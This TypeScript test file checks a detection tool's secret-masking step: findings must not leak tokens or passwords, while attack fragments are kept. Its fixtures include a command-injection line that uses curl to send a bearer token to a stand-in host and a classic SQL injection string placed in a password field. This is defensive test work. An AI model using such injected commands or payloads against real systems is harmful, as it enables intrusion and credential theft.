import { describe, expect, it } from 'vitest';
import { encodeEcsFinding } from './ecs/encode.ts';
import type { Finding } from './finding.ts';
import { maskFinding } from './mask.ts';
import { SECRET_CASES } from './testdata/secrets.ts';

function requestFinding(c: (typeof SECRET_CASES)[number]): Finding {
  return {
    detector: 'http_request', ruleName: 'r', ruleDescription: 'd', entityId: 'client:10.0.0.9', entityType: 'client', service: 'shop',
    windowStartMs: 0, windowEndMs: 60_000, riskScore: 80, severity: 73, message: `${c.request.method} ${c.request.target}`,
    explanation: [], exemplars: [], request: c.request,
    // A fragment is attack text; secret shapes inside one (a token pasted into a command) are masked too.
    examples: [{ timeMs: 1000, riskScore: 80, request: c.request, signatures: [{ kind: 'command_injection', construct: 'separator_command', location: 'body', field: 'note', fragment: `;curl -H 'Authorization: Bearer ${SECRET_CASES[4].secrets[0]}' http://x.example`, start: 0, end: 1, decoded: `;curl ${SECRET_CASES[6].secrets[0]}` }] }],
  };
}

describe('maskFinding', () => {
  it.each(SECRET_CASES)('$name: no trace of the secret in the encoded finding', (c) => {
    const doc = JSON.stringify(encodeEcsFinding(requestFinding(c), { jaegerUiUrl: 'http://j' }));
    for (const secret of [...c.secrets, SECRET_CASES[4].secrets[0], SECRET_CASES[6].secrets[0]]) expect(doc, secret).not.toContain(secret);
    // The request is still there to read, with the secret's place marked.
    expect(doc).toContain('[REDACTED:');
  });

  it('keeps an attack fragment found in a password field, and masks the rest of the field', () => {
    const request = { method: 'POST', target: '/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: "user=ana&password=hunter2%27+OR+%271%27%3D%271" };
    const f: Finding = {
      ...requestFinding(SECRET_CASES[0]), request,
      examples: [{ timeMs: 1, riskScore: 90, request, signatures: [{ kind: 'sql_injection', construct: 'boolean', location: 'body', field: 'password', fragment: '%27+OR+%271%27%3D%271', start: 7, end: 28, decoded: "' OR '1'='1" }] }],
    };
    const masked = maskFinding(f);
    expect(masked.examples![0].request.body).toBe('user=ana&password=[REDACTED:field]');
    expect(masked.examples![0].signatures[0]).toMatchObject({ fragment: '%27+OR+%271%27%3D%271', decoded: "' OR '1'='1", start: 7, end: 28 });
    expect(JSON.stringify(masked)).not.toContain('hunter2');
  });

  it('leaves findings without requests as they were', () => {
    const f: Finding = { ...requestFinding(SECRET_CASES[0]), message: 'GetProduct: 40% failed', request: undefined, examples: undefined };
    expect(maskFinding(f)).toEqual(f);
  });
});
